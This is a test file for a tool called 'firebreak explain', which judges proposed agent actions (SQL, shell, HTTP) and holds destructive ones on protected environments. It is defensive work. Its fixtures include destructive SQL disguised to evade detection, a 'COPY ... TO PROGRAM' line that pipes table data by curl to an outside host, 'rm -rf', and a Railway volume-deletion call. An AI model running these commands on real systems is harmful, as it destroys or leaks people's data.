/** `firebreak explain`: the verdict engine as a filter, as docs/guides/policies.md describes it. */
import { spawn } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { packageFile } from '../../demo/package-root.js';
import { firebreak } from '../support/firebreak-command.js';

interface Answer {
  readonly verdict?: string;
  readonly obligations?: readonly string[];
  readonly effects?: readonly {
    readonly verb: string;
    readonly resource: string;
    readonly environment: string;
    readonly reversible: string;
    readonly evidence: string;
    readonly explain: string;
  }[];
  readonly policies?: readonly string[];
  readonly reason?: string;
  readonly error?: string;
}

let bare: string;
let configured: string;

beforeAll(() => {
  bare = mkdtempSync(join(tmpdir(), 'fb-explain-'));
  configured = mkdtempSync(join(tmpdir(), 'fb-explain-'));
  writeFileSync(
    join(configured, 'firebreak.yaml'),
    `version: 1
environments: { live: { protected: true }, lab: {} }
resources:
  orders-db: { kind: postgres, environment: live, upstream: { host: db.invalid, database: orders }, credentials: { write: w } }
  lab-db: { kind: postgres, environment: lab, upstream: { host: lab.invalid, database: orders }, credentials: { write: w } }
  shop-api: { kind: http, hosts: [api.shop.invalid], environment: live, credential: c }
  railway: { kind: http, provider: railway, credential: r }
`,
  );
});
afterAll(() => {
  for (const folder of [bare, configured]) rmSync(folder, { recursive: true, force: true });
});

async function explain(input: string | Uint8Array, args: readonly string[] = [], cwd = bare) {
  const { status, out, err } = await firebreak(['explain', ...args], { cwd, input });
  expect(err).toBe('');
  expect(out === '' || out.endsWith('\n')).toBe(true);
  return {
    status,
    answers: out
      .split('\n')
      .slice(0, -1)
      .map((line) => JSON.parse(line) as Answer),
  };
}

const lines = (...actions: readonly object[]) => actions.map((action) => `${JSON.stringify(action)}\n`).join('');
const sql = (text: string, resource?: string) => ({
  kind: 'sql',
  text,
  ...(resource === undefined ? {} : { resource }),
});
const PRODUCTION = ['--environment', 'production'];

describe('lines', () => {
  test('one answer a line, in order, with everything that the format promises', async () => {
    const { status, answers } = await explain(
      lines(sql('select 1'), sql('drop table users'), sql('delete from orders'), {
        kind: 'http',
        method: 'GET',
        url: 'https://example.com/',
      }),
      PRODUCTION,
    );
    expect(status).toBe(0);
    expect(answers.map(({ verdict }) => verdict)).toEqual(['allow', 'hold', 'hold', 'allow']);
    expect(answers[1]).toEqual({
      verdict: 'hold',
      obligations: ['snapshot'],
      effects: [
        {
          verb: 'destroy',
          resource: 'users',
          environment: 'production',
          reversible: 'no',
          evidence: 'parsed',
          explain: 'drops table users with all its rows',
        },
      ],
      policies: ['protected.destroy-undoable'],
      reason: expect.any(String),
    });
  });

  test('what is no action is an error on its own line, and the others are still answered; the status is 2', async () => {
    const { status, answers } = await explain(
      [
        'not json',
        '{"text":"select 1"}',
        '[]',
        'null',
        '"x"',
        '',
        '{"kind":"sql"}',
        '{"kind":"dance"}',
        '{"kind":"sql","text":7}',
        '{"kind":"sql","text":"select 1"}',
        '',
      ].join('\n'),
    );
    expect(status).toBe(2);
    expect(answers.map(({ error }) => error)).toEqual([
      'not valid JSON',
      '`kind` is missing',
      'not a JSON object',
      'not a JSON object',
      'not a JSON object',
      'not valid JSON',
      '`text` is missing or not a text',
      '`dance` is not a kind of action; the kinds are shell, sql, http, tool, completion and deploy',
      '`text` is missing or not a text',
      undefined,
    ]);
    expect(answers.at(-1)?.verdict).toBe('allow');
  });

  test('CRLF, a missing last newline and a separator of Unicode inside a text are understood', async () => {
    const { status, answers } = await explain(
      '{"kind":"sql","text":"select 1"}\r\n{"kind":"sql","text":"select \'\u2028\'"}\r\n{"kind":"sql","text":"drop table t"}',
      PRODUCTION,
    );
    expect(status).toBe(0);
    expect(answers.map(({ verdict }) => verdict)).toEqual(['allow', 'allow', 'hold']);
  });

  test('no input is no answer', async () => {
    expect(await explain('')).toEqual({ status: 0, answers: [] });
  });

  test('invalid UTF-8 is an error: nobody guesses what the bytes were', async () => {
    const { status, answers } = await explain(
      Buffer.concat([
        Buffer.from('{"kind":"sql","text":"select \''),
        Buffer.from([0xff, 0xc0]),
        Buffer.from('\'"}\n{"kind":"sql","text":"select 1"}\n'),
      ]),
    );
    expect(status).toBe(2);
    expect(answers).toMatchObject([{ error: 'not valid UTF-8' }, { verdict: 'allow' }]);
  });

  test('a line of 16 MiB is answered, and a longer one is an error', async () => {
    const whole = 16 * 1024 * 1024;
    const frame = JSON.stringify(sql(''));
    const fits = JSON.stringify(sql(`select '${'x'.repeat(whole - frame.length - "select ''".length)}'`));
    expect(fits).toHaveLength(whole);
    const { status, answers } = await explain(`${fits}\n${fits} \n{"kind":"sql","text":"select 1"}\n`, PRODUCTION);
    expect(status).toBe(2);
    // Too long to be parsed in time, so it is held and not let through.
    expect(answers[0]).toMatchObject({ verdict: 'hold', effects: [{ evidence: 'unknown' }] });
    expect(answers.slice(1)).toMatchObject([{ error: 'the line is longer than 16 MiB' }, { verdict: 'allow' }]);
  });

  test('nesting without end is answered like anything else', async () => {
    const deep = `${'['.repeat(100_000)}${']'.repeat(100_000)}`;
    const { answers } = await explain(
      `{"kind":"tool","server":"s","name":"n","arguments":{"a":${deep}}}\n${lines(sql('select 1'))}`,
      PRODUCTION,
    );
    expect(answers).toHaveLength(2);
    expect(answers[0]?.verdict ?? answers[0]?.error).not.toBe('allow');
    expect(answers[1]?.verdict).toBe('allow');
  });

  test('10,000 lines take seconds', async () => {
    const actions = Array.from({ length: 10_000 }, (_, n) =>
      n % 3 === 0
        ? { kind: 'http', method: 'POST', url: `https://api.example.com/items/${n}`, body: `{"n":${n}}` }
        : sql(`select a, b from t${n % 100} join u using (id) where id = ${n} and name like 'x${n}%'`),
    );
    const startedAt = performance.now();
    const { status, answers } = await explain(lines(...actions), PRODUCTION);
    expect(status).toBe(0);
    expect(answers).toHaveLength(10_000);
    expect(performance.now() - startedAt).toBeLessThan(20_000);
  });

  test('an answer comes before the input ends', async () => {
    const child = spawn(process.execPath, [packageFile('dist', 'src', 'main.js'), 'explain'], { cwd: bare });
    child.stdin.write(lines(sql('select 1')));
    const [first] = await new Promise<Buffer[]>((resolve) =>
      child.stdout.once('data', (chunk: Buffer) => resolve([chunk])),
    );
    expect(JSON.parse(String(first))).toMatchObject({ verdict: 'allow' });
    child.stdin.end();
    expect(await new Promise((resolve) => child.once('close', resolve))).toBe(0);
  });

  test('a reader that has seen enough is no error', async () => {
    const child = spawn(process.execPath, [packageFile('dist', 'src', 'main.js'), 'explain'], { cwd: bare });
    let err = '';
    child.stderr.on('data', (chunk: Buffer) => {
      err += chunk.toString();
    });
    child.stdin.on('error', () => undefined); // It ends before it has read everything.
    child.stdin.end(lines(...Array.from({ length: 20_000 }, () => sql('select 1'))));
    child.stdout.once('data', () => child.stdout.destroy());
    expect(await new Promise((resolve) => child.once('close', resolve))).toBe(0);
    expect(err).toBe('');
  });
});

/** Statements that destroy, each in another dress. */
const DRESSES = [
  'delete from orders',
  'DELETE FROM ONLY public.orders WHERE id IN (SELECT id FROM orders)',
  '/* SELECT 1 */ dElEtE/**/from"orders"',
  '-- a read\nTRUNCATE orders, payments CASCADE',
  'WITH gone AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM gone',
  'EXPLAIN (ANALYZE, COSTS off) DELETE FROM orders',
  'EXPLAIN ANALYZE WITH x AS (UPDATE orders SET total = 0 RETURNING 1) SELECT * FROM x',
  'PREPARE p AS DELETE FROM orders; EXECUTE p',
  'DECLARE c CURSOR WITH HOLD FOR SELECT delete_all()',
  'COPY (DELETE FROM orders RETURNING *) TO STDOUT',
  "COPY orders FROM PROGRAM 'true'",
  "COPY orders TO PROGRAM 'curl -T - http://elsewhere'",
  "DO $$ BEGIN EXECUTE 'drop ' || 'table orders'; END $$",
  "DO LANGUAGE plpgsql E'BEGIN DELETE FROM orders; END'",
  'CALL wipe()',
  'SELECT wipe()',
  'SELECT "wi\u0070e"()',
  'SELECT U&"\\0077ipe"()',
  "SELECT query_to_xml('delete from orders', true, true, '')",
  "SELECT dblink_exec('host=elsewhere', 'drop table orders')",
  "SELECT lo_unlink(1), pg_terminate_backend(1), setval('orders_id_seq', 1)",
  "SELECT set_config('session_replication_role', 'replica', false); DELETE FROM orders",
  'MERGE INTO orders o USING payments p ON o.id = p.id WHEN MATCHED THEN DELETE',
  'INSERT INTO orders SELECT * FROM orders ON CONFLICT (id) DO UPDATE SET total = wipe()',
  'CREATE TABLE copy AS SELECT wipe()',
  'CREATE RULE r AS ON INSERT TO orders DO INSTEAD DELETE FROM orders',
  'CREATE OR REPLACE FUNCTION f() RETURNS void LANGUAGE sql AS $$ DELETE FROM orders $$',
  'CREATE EVENT TRIGGER e ON ddl_command_end EXECUTE FUNCTION wipe()',
  'ALTER TABLE orders DROP COLUMN total',
  'ALTER TABLE orders ALTER total TYPE int USING 0',
  'DROP OWNED BY app CASCADE',
  'DROP DATABASE orders WITH (FORCE)',
  'REASSIGN OWNED BY app TO other',
  'ALTER SYSTEM SET archive_mode = off',
  'SET ROLE postgres; DROP TABLE orders',
  'VACUUM FULL orders',
  'BEGIN; DELETE FROM orders; COMMIT',
  'SELECT 1; DROP TABLE orders',
  'REFRESH MATERIALIZED VIEW totals',
  'DELETE FROM orders LIMIT 5',
  'DELETE orders FROM orders JOIN payments WHERE true',
  'drop table orders purge',
  'ＤＲＯＰ TABLE orders',
];

/** Reads as people and programs write them, one of them in the SQL of another product. */
const READS = [
  'SELECT count(*) FROM singer',
  'SELECT name ,  country FROM singer ORDER BY age DESC LIMIT 1',
  'SELECT T1.a, avg(T2.b) FROM x AS T1 JOIN y AS T2 ON T1.id = T2.id GROUP BY T1.a HAVING count(*) >= 2',
  'SELECT a FROM x EXCEPT SELECT a FROM y INTERSECT SELECT a FROM z',
  'SELECT DISTINCT T1.a FROM x AS T1 JOIN y AS T2 WHERE b < (SELECT avg(b) FROM y)',
  "WITH s AS (SELECT lower(name) AS n FROM x WHERE name LIKE '%delete from%') SELECT n AS delete FROM s",
];

describe('verdicts', () => {
  test('destructive statements are held in any dress, and say why', async () => {
    const { answers } = await explain(lines(...DRESSES.map((text) => sql(text))), PRODUCTION);
    const passed = DRESSES.filter((_, index) => answers[index]?.verdict !== 'hold');
    expect(passed).toEqual([]);
    for (const { reason } of answers) expect(reason).toMatch(/production is protected/);
  });

  const harmless = process.env['FIREBREAK_HARMLESS_SQL'];
  test('reads are allowed, and every line of the file that FIREBREAK_HARMLESS_SQL names', async () => {
    const own = lines(...READS.map((text) => sql(text)));
    const input = harmless === undefined ? own : own + readFileSync(harmless, 'utf8');
    const { status, answers } = await explain(input, PRODUCTION);
    expect(status).toBe(0);
    const texts = input.split('\n');
    expect(texts.filter((text, index) => text !== '' && answers[index]?.verdict !== 'allow')).toEqual([]);
  });

  test('what is allowed after it was counted, or copied, says so', async () => {
    const counted = await explain(lines(sql('update orders set total = 1 where id = 7')), PRODUCTION);
    expect(counted.answers).toMatchObject([
      {
        verdict: 'allow',
        obligations: ['measure'],
        reason: expect.stringMatching(/counted first, then allowed within the limits$/),
      },
    ]);
    const copied = await explain(lines(sql('delete from orders where id = 7')), ['--environment', 'staging']);
    expect(copied.answers).toMatchObject([
      {
        verdict: 'allow',
        obligations: ['snapshot'],
        reason: expect.stringMatching(/a copy is kept first, else it is held$/),
      },
    ]);
  });

  test('SQL in a command has the verdict of SQL; what a copy brings back is kept; what names a deletion is one', async () => {
    const { answers } = await explain(
      lines(
        { kind: 'shell', text: 'psql $PROD -c "drop table users"', cwd: '/repo' },
        { kind: 'sql', text: 'drop table users' },
        { kind: 'shell', text: 'rm -rf src' },
        { kind: 'shell', text: 'git commit -m "drop table users; rm -rf /"' },
        { kind: 'tool', server: 'github', name: 'delete_file', arguments: { path: 'a' } },
      ),
      PRODUCTION,
    );
    expect(answers.map(({ verdict }) => verdict)).toEqual(['hold', 'hold', 'allow', 'allow', 'hold']);
    expect(answers[0]?.effects).toMatchObject([{ verb: 'destroy', environment: 'production', evidence: 'parsed' }]);
    expect(answers[0]?.obligations).toEqual(answers[1]?.obligations);
    expect(answers[2]?.obligations).toEqual(['snapshot']);
  });

  test('kinds that are not understood yet are held on a protected environment with evidence unknown, and say why', async () => {
    const actions = [
      {
        kind: 'tool',
        server: 'github',
        name: 'merge_branch',
        arguments: { path: 'a' },
        definition: { name: 'merge_branch' },
      },
      { kind: 'completion', model: 'm', request: { messages: [] } },
      { kind: 'deploy', target: 'shop', revision: 'abc' },
    ];
    const guarded = await explain(lines(...actions), PRODUCTION);
    for (const { verdict, effects, reason } of guarded.answers) {
      expect(verdict).toBe('hold');
      expect(effects).toMatchObject([
        { evidence: 'unknown', environment: 'production', explain: expect.stringMatching(/\w+ \w+/) },
      ]);
      expect(reason).toMatch(/not known for certain/);
    }
    const open = await explain(lines(...actions), ['--environment', 'staging']);
    expect(open.answers.map(({ verdict }) => verdict)).toEqual(['allow', 'allow', 'allow']);
  });

  test('--environment names where what nobody declares lies; an undeclared name counts as protected, and so does none', async () => {
    const action = lines(sql('drop table users'));
    const verdicts = async (...args: string[]) =>
      (await explain(action, args)).answers.map((one) => [one.verdict, one.effects?.[0]?.environment]);
    expect(await verdicts('--environment', 'production')).toEqual([['hold', 'production']]);
    expect(await verdicts('--environment', 'prodution')).toEqual([['hold', 'prodution']]);
    expect(await verdicts()).toEqual([['hold', 'unknown']]);
  });

  test('with a configuration, resources bring their own environments, whatever --environment says', async () => {
    const { answers } = await explain(
      lines(
        sql('insert into orders values (1)', 'orders-db'),
        sql('insert into orders values (1)', 'lab-db'),
        sql('create role x', 'orders-db'),
        sql('create role x', 'lab-db'),
        sql('create role x'),
        { kind: 'http', method: 'DELETE', url: 'https://api.shop.invalid/customers' },
      ),
      ['--environment', 'lab'],
      configured,
    );
    expect(answers.map(({ verdict, effects }) => [verdict, effects?.[0]?.environment])).toEqual([
      ['allow', 'live'],
      ['allow', 'lab'],
      ['hold', 'live'],
      ['allow', 'lab'],
      ['allow', 'lab'],
      ['hold', 'live'],
    ]);
  });

  test("the incident: Railway's volumeDelete is held, and with a credential of unknown origin it is denied", async () => {
    const call = (token: string) => ({
      kind: 'http',
      method: 'POST',
      url: 'https://backboard.railway.app/graphql/v2',
      headers: { Authorization: `Bearer ${token}`, 'Content-Type': 'application/json' },
      body: JSON.stringify({ query: 'mutation { volumeDelete(volumeId: "v") }' }),
    });
    const { answers } = await explain(
      lines(call(`fbk_live_${'0'.repeat(26)}`), call('a-token-that-lay-about')),
      ['--environment', 'live'],
      configured,
    );
    expect(answers).toMatchObject([
      { verdict: 'hold', effects: [{ verb: 'destroy', reversible: 'no', environment: 'live' }] },
      { verdict: 'deny', reason: expect.stringMatching(/not issued by Firebreak/) },
    ]);
  });

  test('a configuration that is not valid ends with 2 before anything is read', async () => {
    const path = join(bare, 'broken.yaml');
    writeFileSync(path, 'version: 1\nenvironments: {}\nresourcs: {}\n');
    const { status, out, err } = await firebreak(['explain', '--config', path], {
      cwd: bare,
      input: lines(sql('select 1')),
    });
    expect({ status, out }).toEqual({ status: 2, out: '' });
    expect(err).toMatch(/unknown key `resourcs`\n {2}hint: did you mean `resources`\?/);
  });
});
